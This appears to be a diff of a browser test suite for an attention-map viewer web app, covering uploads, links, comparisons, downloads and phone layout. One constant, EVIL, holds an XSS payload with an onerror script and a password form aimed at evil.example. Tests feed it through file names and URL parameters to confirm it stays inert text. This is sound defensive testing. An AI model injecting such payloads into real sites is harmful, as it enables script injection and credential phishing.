@@ -1,375 +1,286 @@
-"""The page in headless Chromium, on a desktop and on a phone: what a visitor does, and the pixels that appear."""
+"""The page in headless Chromium, on a desktop and on a phone: what a visitor does, sees, and asks of the server."""
 
 from __future__ import annotations
 
 import io
 import json
-import time
-from base64 import b64decode
 from dataclasses import replace
-from urllib.parse import parse_qs, urlsplit
+from pathlib import Path
+from urllib.parse import parse_qs, quote, urlsplit
 
 import numpy as np
 import pytest
-from PIL import Image
 
 import vitattn_widgets as va
-from vitattn_widgets.comparison.compare import compare_views, difference_view
-from vitattn_widgets.comparison.panels import Panel
+from vitattn_widgets.view.settings import VIEW_FIELDS
+from vitattn_widgets.viewer.settings import START
 
-from .. import model_zoo
 from ..conftest import SAMPLES, noise_photo
 from ..lab import CHROMIUM, running_browser
-from .test_server import photo_file, running_page
+from .lab import MAX_UPLOAD, SIZES, Visitor, picture_file, png, running_page
 
 pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="no Chromium here; install it with apt install chromium")
 
-SIZES = {"desktop": (1400, 1000), "phone": (390, 844)}
+EVIL = "<img src=x onerror=window.harmed=1><form action=//evil.example><input name=p type=password></form>"
 
 
 @pytest.fixture(scope="module")
-def model() -> va.models.AttentionModel:
-    return va.load_model(model_zoo.build("vit", model_zoo.WIDE))
+def model(wide_model: va.models.AttentionModel) -> va.models.AttentionModel:
+    return wide_model
 
 
 @pytest.fixture(scope="module")
 def served(model: va.models.AttentionModel, tmp_path_factory: pytest.TempPathFactory):
-    with running_page(model, tmp_path_factory.mktemp("gradio")) as (address, _), running_browser() as browser:
-        yield address, browser
-
-
-class Visitor:
-    """A window with the page, its network requests and its errors."""
-
-    def __init__(self, served, size: str) -> None:
-        self.address, browser = served
-        width, height = SIZES[size]
-        phone = size == "phone"
-        self.context = browser.new_context(
-            viewport={"width": width, "height": height}, has_touch=phone, is_mobile=phone
-        )
-        self.page = self.context.new_page()
-        self.requests: list[str] = []
-        self.complaints: list[str] = []
-        self.page.on("request", lambda request: self.requests.append(request.url))
-        self.page.on("pageerror", lambda error: self.complaints.append(str(error)))
-        self.page.on("console", lambda said: self.complaints.append(said.text) if said.type == "error" else None)
-
-    def open(self, query: str = "") -> None:
-        self.page.goto(f"{self.address}/{query}")
-        self.page.wait_for_selector(".va-shown", timeout=30000)
-
-    def wait_until(self, **settings) -> None:
-        """Wait until the picture with these settings is shown."""
-        self.page.wait_for_function(
-            """(wanted) => {
-                const shown = JSON.parse(document.querySelector(".va-shown").dataset.shown);
-                return Object.entries(wanted).every(([k, v]) => JSON.stringify(shown[k]) === JSON.stringify(v));
-            }""",
-            arg=settings,
-            timeout=10000,
-        )
-
-    def settings(self) -> va.ViewSettings:
-        shown = json.loads(self.page.locator(".va-shown").get_attribute("data-shown"))
-        return va.ViewSettings(**{name: value for name, value in shown.items() if name not in ("model", "arrangement")})
-
-    def pixels(self) -> np.ndarray:
-        source = self.page.locator(".va-frame img").get_attribute("src")
-        return np.asarray(Image.open(io.BytesIO(b64decode(source.partition(",")[2]))))
-
-    def click_patch(self, row: int, col: int, grid: tuple[int, int] = (4, 6)) -> None:
-        frame = self.page.locator(".va-frame img")
-        frame.scroll_into_view_if_needed()
-        bounds = frame.bounding_box()
-        position = {"x": (col + 0.5) / grid[1] * bounds["width"], "y": (row + 0.5) / grid[0] * bounds["height"]}
-        frame.click(position=position)
-
-    def wait_for_picture(self, wanted: np.ndarray, seconds: float = 10) -> None:
-        """Wait until these pixels are shown."""
-        deadline = time.monotonic() + seconds
-        while not np.array_equal(self.pixels(), wanted):
-            assert time.monotonic() < deadline
-            self.page.wait_for_timeout(50)
-
-    def upload(self, path) -> None:
-        self.page.locator("input[type=file]").first.set_input_files(path)
+    with running_page(model, tmp_path_factory.mktemp("gradio")) as (address, page), running_browser() as browser:
+        yield address, browser, page
 
 
 @pytest.fixture(params=list(SIZES))
 def visitor(served, request: pytest.FixtureRequest):
-    visitor = Visitor(served, request.param)
+    visitor = Visitor(served[1], served[0], request.param)
     visitor.open()
     yield visitor
-    visitor.context.close()
+    visitor.close()
 
 
-def assert_shown(visitor: Visitor, capture: va.capture.AttentionCapture, settings: va.ViewSettings) -> None:
-    assert visitor.settings() == settings
-    np.testing.assert_array_equal(visitor.pixels(), va.render_view(capture, settings).image)
+@pytest.fixture
+def desktop(served):
+    visitor = Visitor(served[1], served[0])
+    visitor.open()
+    yield visitor
+    visitor.close()
 
 
-def test_a_visit_from_the_sample_to_an_own_photo(visitor: Visitor, model: va.models.AttentionModel, tmp_path) -> None:
-    assert_shown(visitor, va.capture_attention(model, SAMPLES / "chelsea.jpg"), va.ViewSettings(layer=2))
+def caption_of(model: va.models.AttentionModel, photo, settings: va.ViewSettings) -> str:
+    capture = va.complete_capture(model, va.capture_attention(model, photo), settings)
+    return va.render_view(capture, settings).caption
 
-    visitor.page.locator("#va-layer input[type=range]").focus()
-    for _ in range(2):
-        visitor.page.keyboard.press("ArrowLeft")
-    visitor.wait_until(layer=0)
 
-    path = photo_file(tmp_path, seed=7)
-    capture = va.capture_attention(model, path)
-    visitor.upload(path)
-    visitor.page.wait_for_function("!document.querySelector('.va-shown').dataset.link.includes('sample')")
-    assert_shown(visitor, capture, va.ViewSettings(layer=0))
-
-    visitor.click_patch(3, 4)
-    visitor.wait_until(query=[3, 4])
-    assert_shown(visitor, capture, va.ViewSettings(layer=0, query=(3, 4)))
-    assert visitor.page.locator(".va-query").count() == 1
-    visitor.page.get_by_role("button", name="Back to the class token").click()
-    visitor.wait_until(query=None)
-    assert visitor.page.locator(".va-query").count() == 0
-
-    visitor.page.locator("#va-panel button", has_text="head 1").click()
-    visitor.wait_until(head=1)
-    assert_shown(visitor, capture, va.ViewSettings(layer=0, head=1))
-
-    visitor.page.get_by_label("all layers and heads").check()
-    visitor.page.get_by_role("button", name="layer 2, head 0").click()
-    visitor.wait_until(layer=2, head=0)
-    visitor.page.get_by_role("radio", name="compare", exact=True).check()
-    visitor.page.wait_for_selector(".va-compared figure")
-    assert visitor.page.locator(".va-compared figure").count() == 3
-
+def test_the_first_picture_is_the_first_samples(visitor: Visitor, model: va.models.AttentionModel) -> None:
+    assert visitor.settings() == replace(START, layer=2)
+    assert visitor.shown()["picture"] == "chelsea"
+    assert visitor.caption() == caption_of(model, SAMPLES / "chelsea.jpg", visitor.settings())
     overflowing = visitor.page.evaluate("document.documentElement.scrollWidth - document.documentElement.clientWidth")
     assert overflowing <= 1
-    assert [url for url in visitor.requests if not url.startswith((visitor.address, "blob:", "data:"))] == []
     assert visitor.complaints == []
+    assert {urlsplit(address).netloc for _, address in visitor.requests if address[:4] == "http"} == {
+        urlsplit(visitor.address).netloc
+    }
 
 
-def picked(visitor: Visitor, label: str, option: str) -> None:
-    """Choose an option of a menu."""
-    visitor.page.get_by_role("combobox", name=label, exact=True).click()
-    visitor.page.get_by_role("option", name=option, exact=True).last.click()  # a closing menu may still be fading
+def test_no_control_asks_anything_of_the_server(desktop: Visitor, model: va.models.AttentionModel) -> None:
+    page = desktop.page
+    for layer in (0, 1, 2):  # their queries and keys are fetched ahead, as soon as they are looked at
+        desktop.slide(layer)
+        desktop.rest()
+    asked = len(desktop.requests)
+    for layer, row, col in ((0, 1, 1), (1, 3, 5), (2, 2, 4)):
+        desktop.slide(layer)
+        desktop.click_patch(row, col)
+        desktop.wait_until(layer=layer, query=[row, col])
+        assert desktop.caption() == caption_of(model, SAMPLES / "chelsea.jpg", desktop.settings())
+    page.get_by_role("gridcell", name="layer 1, head 2").click()
+    desktop.wait_until(layer=1, head=2)
+    page.get_by_role("radiogroup", name="Head").get_by_text("all", exact=True).click()
+    desktop.wait_until(head=None)
+    page.get_by_text("More", exact=True).click()
+    page.get_by_text("Expert", exact=True).click()
+    page.get_by_text("maximum", exact=True).click()
+    desktop.wait_until(aggregation="max")
+    desktop.slide(0.3, "Opacity")
+    desktop.wait_until(opacity=0.3)
+    page.get_by_role("checkbox", name="median").click()
+    desktop.wait_until(median=False)
+    page.get_by_role("button", name="Undo").click()
+    desktop.wait_until(median=True)
+    desktop.rest()
+    assert desktop.requests[asked:] == []
+    assert desktop.complaints == []
 
 
-def test_what_the_classifier_used_for_which_class_and_what_that_is_worth(visitor: Visitor, model) -> None:
-    capture = va.capture_attention(model, SAMPLES / "chelsea.jpg")
-    visitor.page.get_by_text("plain attention does not depend on the class").wait_for()
-    assert visitor.page.locator("#va-target input").is_disabled()
-    visitor.page.get_by_role("button", name="What did the classifier use?").click()
-    visitor.wait_until(source="gradient_late", sinks="outline")
-    settings = va.ViewSettings(layer=2, source="gradient_late", sinks="outline")
-    capture = va.complete_capture(model, capture, settings)
-    assert_shown(visitor, capture, settings)
-    visitor.page.get_by_text("the heads of several layers are averaged and summed").first.wait_for()
-    assert visitor.page.get_by_role("radio", name="mean / std").is_disabled()
-    assert visitor.page.get_by_role("radio", name="1", exact=True).is_disabled()
-
-    picker = visitor.page.locator("#va-target input")
-    picker.click()
-    visitor.page.keyboard.type("4")  # typing replaces the current text
-    visitor.page.keyboard.press("Enter")
-    visitor.wait_until(target=4)
-    settings = replace(settings, target=4)
-    capture = va.complete_capture(model, capture, settings)
-    assert_shown(visitor, capture, settings)
-    picker.click()
-    visitor.page.keyboard.type("zebra")
-    visitor.page.keyboard.press("Enter")
-    visitor.page.get_by_text("there is no class 'zebra'").wait_for()
-    visitor.page.wait_for_function("document.querySelector('#va-target input').value.startsWith('class 4')")
-    assert_shown(visitor, capture, settings)
-
-    visitor.page.get_by_role("button", name="Is this map worth anything?").click()
-    visitor.page.wait_for_selector(".va-checked img", timeout=30000)
-    found = visitor.page.locator(".va-checked li").all_inner_texts()
-    assert tuple(found) == va.check_map(model, capture, settings).sentences
-    visitor.page.wait_for_function("document.querySelector('.va-checked img').naturalWidth > 0")
-    visitor.page.locator("#va-opacity input[type=range]").focus()
-    visitor.page.keyboard.press("ArrowRight")
-    visitor.wait_until(opacity=0.51)
-    assert visitor.page.locator(".va-checked").count() == 1  # the same map
-    visitor.page.locator("#va-layer input[type=range]").focus()
-    visitor.page.keyboard.press("ArrowLeft")
-    visitor.wait_until(layer=1)
-    visitor.page.wait_for_function("!document.querySelector('.va-checked')")
-
-    visitor.page.get_by_role("button", name="Is this map worth anything?").click()
-    visitor.page.locator("#va-layer input[type=range]").focus()
-    visitor.page.keyboard.press("ArrowLeft")  # the result is of a map that is no longer shown
+def test_an_own_photo_is_shown_with_the_settings_as_they_stand(visitor: Visitor, model, tmp_path: Path) -> None:
+    visitor.slide(0)
     visitor.wait_until(layer=0)
-    visitor.page.wait_for_function("!document.querySelector('.va-busy')", timeout=30000)
-    assert visitor.page.locator(".va-checked").count() == 0
+    path = picture_file(tmp_path, seed=7, name="my photo.png")
+    visitor.upload(path)
+    visitor.wait_until(picture="my photo.png", layer=0)
+    assert visitor.caption() == caption_of(model, path, visitor.settings())
+    visitor.click_patch(3, 4)
+    visitor.wait_until(query=[3, 4])
+    assert visitor.caption() == caption_of(model, path, visitor.settings())
+    visitor.upload(picture_file(tmp_path, seed=8, name="my photo.png"))
+    visitor.wait_until(picture="my photo.png (2)")
+    thumbnail = visitor.page.get_by_role("button", name="my photo.png", exact=True)
+    assert thumbnail.locator("img").evaluate("(image) => image.decode().then(() => image.naturalHeight)") > 10
+    thumbnail.click()
+    visitor.wait_until(picture="my photo.png")
+    assert "sample" not in urlsplit(visitor.page.url).query
     assert visitor.complaints == []
 
 
-def test_views_of_ones_own_are_compared_and_subtracted(visitor: Visitor, model: va.models.AttentionModel) -> None:
-    page = visitor.page
-    page.get_by_role("button", name="Add this view to compare (0 of 12)").click()
-    page.wait_for_selector(".va-compared figure")
-    assert page.get_by_role("button", name="This view is one of your own views").is_disabled()
-    picked(visitor, "Source", "rollout")
-    visitor.wait_until(source="rollout")
-    page.get_by_role("button", name="Add this view to compare (1 of 12)").click()
-    page.wait_for_function("document.querySelectorAll('.va-compared figure').length === 2")
-    capture = va.capture_attention(model, SAMPLES / "chelsea.jpg")
-    panels = [Panel(capture, va.ViewSettings(layer=2, source=name), "chelsea") for name in ("attention", "rollout")]
-    wanted = compare_views(panels)
-    texts = page.locator(".va-compared button span").all_inner_texts()
-    assert texts == [f"{number} {title}" for number, title in enumerate(wanted.titles, 1)]
-    assert f"{wanted.limits[1]:.3g}" in page.locator("#va-panel .va-ticks").inner_text()
-
-    picked(visitor, "Difference: view", "2")
-    picked(visitor, "minus view", "1")
-    page.wait_for_selector(".va-difference img")
-    assert page.get_by_text("2 minus 1").count() == 1
-    assert difference_view(*panels[::-1]).caption in page.locator("#va-panel").inner_text()
-
-    page.locator(".va-compared button[data-choose*=view]").first.click()
-    visitor.wait_until(source="attention")
-    page.wait_for_function("document.querySelector('.va-compared [aria-pressed=true]')?.textContent.startsWith('1')")
-    page.get_by_role("button", name="Remove view 1").click()
-    page.wait_for_function("document.querySelectorAll('.va-compared figure').length === 1")
-    assert page.locator(".va-difference").count() == 0
-    page.get_by_role("button", name="Remove all of your views").click()
-    page.get_by_text("You have no views of your own yet").wait_for()
-
-    page.get_by_role("radio", name="sources", exact=True).check()
-    page.wait_for_function("document.querySelectorAll('.va-compared figure').length === 6")
-    overflowing = page.evaluate("document.documentElement.scrollWidth - document.documentElement.clientWidth")
-    assert overflowing <= 1
-    page.get_by_role("radio", name="every head", exact=True).check()
-    page.wait_for_selector(".va-all")
-    assert not page.get_by_role("radio", name="sources", exact=True).is_visible()
-    assert visitor.complaints == []
+def test_a_photo_is_dropped_or_pasted(desktop: Visitor, model: va.models.AttentionModel) -> None:
+    desktop.page.evaluate(
+        """(bytes) => {
+            const items = new DataTransfer();
+            items.items.add(new File([new Uint8Array(bytes)], "dropped.png", { type: "image/png" }));
+            const dropped = new DragEvent("drop", { dataTransfer: items, bubbles: true, cancelable: true });
+            document.querySelector(".va-stage").dispatchEvent(dropped);
+        }""",
+        list(png(noise_photo((60, 90), 5))),
+    )
+    desktop.wait_until(picture="dropped.png")
+    assert desktop.caption() == caption_of(model, noise_photo((60, 90), 5), desktop.settings())
+    desktop.paste(png(noise_photo((70, 110), 8)))
+    desktop.wait_until(picture="image.png")
+    assert desktop.caption() == caption_of(model, noise_photo((70, 110), 8), desktop.settings())
 
 
-def test_the_link_in_the_address_restores_what_was_shown(
-    visitor: Visitor, served, model: va.models.AttentionModel
-) -> None:
-    visitor.page.locator("#va-samples button", has_text="coffee").click()
-    visitor.page.wait_for_function("document.querySelector('.va-shown').dataset.link.includes('coffee')")
+@pytest.mark.parametrize(
+    ("name", "content", "message"),
+    [
+        ("broken.png", b"no picture", "broken.png: not a picture of a known type"),
+        ("empty.png", b"", "empty.png: the file is empty"),
+        ("large.png", b"\0" * (MAX_UPLOAD + 1), "large.png: at most 0.3 MB are accepted; scale the picture down"),
+        (f"{EVIL.replace('/', '')}.png", b"no picture", "not a picture of a known type"),
+    ],
+)
+def test_a_bad_file_is_one_line_on_the_picture_which_stays(visitor: Visitor, name, content, message) -> None:
+    before = visitor.shown()
+    visitor.paste(content, name)
+    assert message in visitor.message()
+    assert "\n" not in visitor.message()
+    note, stage = (visitor.page.locator(selector).bounding_box() for selector in (".va-note", ".va-stage"))
+    assert note["y"] >= stage["y"] - 1
+    assert note["y"] + note["height"] <= stage["y"] + stage["height"] + 1
+    assert visitor.shown() == before
+    assert visitor.page.evaluate("window.harmed") is None
+    assert visitor.page.locator(".toast-wrap *, form").count() == 0
+
+
+def test_the_address_restores_what_was_shown(visitor: Visitor, served) -> None:
+    visitor.page.get_by_role("button", name="coffee").click()
+    visitor.wait_until(picture="coffee")
+    visitor.slide(1)
     visitor.click_patch(1, 2)
-    visitor.wait_until(query=[1, 2])
-    visitor.page.get_by_label("robust").check()
-    visitor.wait_until(scale="robust")
+    visitor.wait_until(query=[1, 2], layer=1)
+    visitor.page.wait_for_function("location.search.includes('query')")
     link = urlsplit(visitor.page.url).query
     assert parse_qs(link)["query"] == ["1,2"]
 
-    other = Visitor(served, "desktop")
+    other = Visitor(served[1], served[0])
     other.open(f"?{link}")
-    settings = va.ViewSettings(layer=2, query=(1, 2), scale="robust")
-    assert_shown(other, va.capture_attention(model, SAMPLES / "coffee.jpg"), settings)
-    assert other.page.get_by_label("robust").is_checked()
-    assert other.page.url == visitor.page.url
+    assert other.shown() == visitor.shown()
+    assert other.caption() == visitor.caption()
+    assert other.page.locator(".va-note").count() == 0
     assert other.complaints == []
-    other.context.close()
+    other.close()
 
 
-def test_a_bad_file_is_told_in_the_page_and_the_picture_stays(visitor: Visitor, tmp_path) -> None:
-    before = visitor.pixels()
-    bad = tmp_path / "broken.png"
-    bad.write_bytes(b"no picture")
-    visitor.upload(bad)
-    visitor.page.get_by_text("broken.png: not a picture of a known type").wait_for(timeout=10000)
-    assert "Traceback" not in visitor.page.locator("body").inner_text()
-    np.testing.assert_array_equal(visitor.pixels(), before)
-    visitor.upload(photo_file(tmp_path, seed=3))
-    visitor.page.wait_for_function("!document.querySelector('.va-shown').dataset.link.includes('sample')")
+def test_every_setting_is_restored_by_its_link(served) -> None:
+    settings = {
+        "layer": 0, "head": 1, "aggregation": "max", "query": "mean", "source": "norm", "sinks": "outline",
+        "median": False, "scale": "shared", "opacity": 0.4, "cmap": "gray", "on": "original", "blend": "even",
+    }  # fmt: skip
+    link = {**settings, "smoothing": "bilinear gaussian", "arrangement": "side by side", "sample": "rocket"}
+    del link["median"]
+    first, second = Visitor(served[1], served[0]), Visitor(served[1], served[0])
+    first.open("?" + "&".join(f"{name}={quote(str(value))}" for name, value in link.items()))
+    assert first.settings() == replace(START, **settings)
+    first.page.get_by_role("button", name="Keep").click()
+    first.page.get_by_role("button", name="Copy link").click()
+    second.open("?" + urlsplit(first.page.locator(".va-address").text_content()).query)
+    assert second.shown() == first.shown()
+    first.close()
+    second.close()
 
 
-def test_the_downloads_are_the_picture_the_map_and_the_recipe(
-    visitor: Visitor, model: va.models.AttentionModel
-) -> None:
-    wanted = va.render_view(va.capture_attention(model, SAMPLES / "chelsea.jpg"), va.ViewSettings(layer=2))
+def test_a_bad_link_is_text_on_the_picture_and_nothing_else(served) -> None:
+    visitor = Visitor(served[1], served[0])
+    evil = quote(EVIL)
+    visitor.open(f"?layer=99&target={evil}&cmap={evil}&sample={evil}&panels={evil}&head=1")
+    assert visitor.settings() == replace(START, layer=2, head=1)
+    message = visitor.message()
+    for words in (
+        "there is no sample",
+        "layer 99 does not exist",
+        "there is no class",
+        "the comparison cannot be shown",
+    ):
+        assert words in message
+    assert "<img src=x" in message
+    assert visitor.page.evaluate("window.harmed") is None
+    assert visitor.page.locator(".va-note img, .toast-wrap *, form").count() == 0
+    assert {urlsplit(address).netloc for _, address in visitor.requests if address[:4] == "http"} == {
+        urlsplit(served[0]).netloc
+    }
+    visitor.close()
+
+
+def test_a_comparison_is_restored_by_its_link(desktop: Visitor, served) -> None:
+    desktop.page.get_by_role("button", name="Compare").click()
+    desktop.page.get_by_role("button", name="layers", exact=True).click()
+    desktop.page.wait_for_function("location.search.includes('panels')")
+    panels = json.loads(parse_qs(urlsplit(desktop.page.url).query)["panels"][0])
+    assert [panel["layer"] for panel in panels] == [0, 1, 2]
+    other = Visitor(served[1], served[0])
+    other.open(f"?{urlsplit(desktop.page.url).query}")
+    other.page.get_by_role("button", name="Compare").click()
+    texts = [one.page.locator(".va-compared-panels").inner_text() for one in (desktop, other)]
+    assert texts[0] == texts[1]
+    assert other.complaints == []
+    other.close()
+
+
+def test_a_check_says_what_check_map_says(desktop: Visitor, model: va.models.AttentionModel) -> None:
+    desktop.page.get_by_role("button", name="Check").click()
+    desktop.page.get_by_role("button", name="Check this map").click()
+    capture = va.capture_attention(model, SAMPLES / "chelsea.jpg")
+    check = va.check_map(model, capture, desktop.settings())
+    desktop.page.get_by_text(check.verdict).first.wait_for(timeout=30000)
+    for sentence in check.sentences:
+        assert sentence in desktop.page.locator(".va-drawer").text_content()
+    assert desktop.complaints == []
+
+
+def test_recipe_and_offline_page_are_made_by_the_server(desktop: Visitor, served, model, tmp_path: Path) -> None:
+    path = picture_file(tmp_path, seed=4, name="<b>.png")
+    desktop.upload(path)
+    desktop.wait_until(picture="<b>.png")
+    desktop.slide(1)
+    desktop.page.get_by_role("button", name="Keep").click()
     contents = {}
-    for label in ("PNG", "NPZ", "Recipe"):
-        with visitor.page.expect_download(timeout=10000) as download:
-            visitor.page.get_by_role("button", name=label, exact=True).click()
+    for label in ("Recipe: JSON", "Offline page: HTML", "Numbers: NPZ"):
+        with desktop.page.expect_download(timeout=30000) as download:
+            desktop.page.get_by_role("button", name=label).click()
         contents[label] = download.value.path().read_bytes()
-        assert download.value.suggested_filename.startswith("chelsea-VisionTransformer-layer2-mean")
-    np.testing.assert_array_equal(np.asarray(Image.open(io.BytesIO(contents["PNG"]))), wanted.image)
-    with np.load(io.BytesIO(contents["NPZ"])) as found:
-        np.testing.assert_array_equal(found["grid_map"], wanted.grid_map)
-    recipe = json.loads(contents["Recipe"])
-    again = va.from_recipe(recipe, model=model, picture=SAMPLES / "chelsea.jpg")
-    np.testing.assert_array_equal(again.image, wanted.image)
+        assert download.value.suggested_filename.startswith("_b_-")
+    again = va.from_recipe(json.loads(contents["Recipe: JSON"]), model=model, picture=path)
+    assert again.caption == caption_of(model, path, desktop.settings())
+    with np.load(io.BytesIO(contents["Numbers: NPZ"])) as found:
+        np.testing.assert_allclose(found["grid_map"], again.grid_map, rtol=1e-5)
+    offline = tmp_path / "offline.html"
+    offline.write_bytes(contents["Offline page: HTML"])
+    reader = served[1].new_page()
+    reader.goto(offline.as_uri())
+    reader.wait_for_selector(".va-viewer[data-shown]", timeout=20000)
+    shown = json.loads(reader.locator(".va-viewer").get_attribute("data-shown"))
+    assert {name: shown[name] for name in VIEW_FIELDS} == {name: desktop.shown()[name] for name in VIEW_FIELDS}
+    reader.close()
+    assert desktop.complaints == []
 
 
-def test_dragging_a_slider_ends_on_its_last_value(visitor: Visitor) -> None:
-    slider = visitor.page.locator("#va-opacity input[type=range]")
-    slider.focus()
-    for _ in range(30):
-        visitor.page.keyboard.press("ArrowRight")
-    visitor.wait_until(opacity=0.8)
-    assert slider.input_value() == "0.8"
-
-
-def test_of_quick_clicks_the_last_one_counts(visitor: Visitor, model: va.models.AttentionModel) -> None:
-    frame = visitor.page.locator(".va-frame img")
-    frame.scroll_into_view_if_needed()
-    bounds = frame.bounding_box()
-    for row, col in ((0, 0), (1, 1), (3, 5), (2, 4)):
-        x, y = bounds["x"] + (col + 0.5) / 6 * bounds["width"], bounds["y"] + (row + 0.5) / 4 * bounds["height"]
-        visitor.page.mouse.click(x, y)
-    visitor.wait_until(query=[2, 4])
-    visitor.page.wait_for_timeout(500)
-    assert_shown(visitor, va.capture_attention(model, SAMPLES / "chelsea.jpg"), va.ViewSettings(layer=2, query=(2, 4)))
-
-
-def test_controls_say_why_they_rest(visitor: Visitor) -> None:
-    aggregation = visitor.page.get_by_role("radio", name="mean / std")
-    assert aggregation.is_enabled()
-    visitor.page.get_by_text("how the heads are combined into one map").wait_for()
-    visitor.page.get_by_role("radio", name="2", exact=True).check()
-    visitor.wait_until(head=2)
-    visitor.page.get_by_text("only head 2 is shown").wait_for()
-    assert aggregation.is_disabled()
-    visitor.page.get_by_role("radio", name="all", exact=True).check()
-    visitor.wait_until(head=None)
-    visitor.page.get_by_text("how the heads are combined into one map").wait_for()
-    assert aggregation.is_enabled()
-    opacity = visitor.page.locator("#va-opacity input[type=range]")
-    visitor.page.get_by_role("radio", name="map", exact=True).check()
-    visitor.wait_until(arrangement="map")
-    visitor.page.wait_for_function("document.querySelector('#va-opacity input[type=range]').disabled")
-    visitor.page.get_by_role("radio", name="overlay").check()
-    visitor.page.wait_for_function("!document.querySelector('#va-opacity input[type=range]').disabled")
-    assert opacity.input_value() == "0.5"
-    assert visitor.page.get_by_role("button", name="Back to the class token").is_disabled()
-    visitor.click_patch(1, 1)
-    visitor.wait_until(query=[1, 1])
-    assert visitor.page.get_by_label("Query").input_value() == "patch at row 1, col 1"
-    assert visitor.complaints == []
-
-
-def test_every_control_has_a_name(visitor: Visitor) -> None:
-    nameless = visitor.page.evaluate(
-        """() => [...document.querySelectorAll(".va-samples button, .va-tiles button, .va-cells button, .va-frame img")]
-            .filter((node) => !(node.getAttribute("aria-label") || node.alt || node.textContent.trim()))
-            .map((node) => node.outerHTML.slice(0, 200))"""
-    )
-    assert nameless == []
-
-
-def test_a_dropped_picture_is_shown(served, model: va.models.AttentionModel) -> None:
-    visitor = Visitor(served, "desktop")
+def test_on_a_phone_the_picture_stays_in_sight_of_its_controls(served) -> None:
+    visitor = Visitor(served[1], served[0], "phone")
     visitor.open()
-    stream = io.BytesIO()
-    Image.fromarray(noise_photo((60, 90), 5)).save(stream, "PNG")
-    visitor.page.evaluate(
-        """(bytes) => {
-            const file = new File([new Uint8Array(bytes)], "dropped.png", { type: "image/png" });
-            const items = new DataTransfer();
-            items.items.add(file);
-            const target = document.querySelector("input[type=file]").closest("button, div");
-            target.dispatchEvent(new DragEvent("drop", { dataTransfer: items, bubbles: true, cancelable: true }));
-        }""",
-        list(stream.getvalue()),
-    )
-    visitor.page.wait_for_function("!document.querySelector('.va-shown').dataset.link.includes('sample')")
-    capture = va.capture_attention(model, noise_photo((60, 90), 5))
-    assert_shown(visitor, capture, va.ViewSettings(layer=2))
-    visitor.context.close()
+    page = visitor.page
+    page.get_by_text("More", exact=True).click()
+    page.get_by_text("Expert", exact=True).click()
+    controls = page.locator(".va-body :is(input:not([type=file]), select, button):visible")
+    assert controls.count() > 20
+    height = SIZES["phone"][1]
+    for number in range(controls.count()):
+        controls.nth(number).evaluate("(control) => control.scrollIntoView({ block: 'nearest' })")
+        bounds = page.locator(".va-stage").bounding_box()
+        seen = min(bounds["y"] + bounds["height"], height) - max(bounds["y"], 0)
+        assert seen >= 0.6 * bounds["height"], controls.nth(number).evaluate("(control) => control.outerHTML")
+    visitor.close()
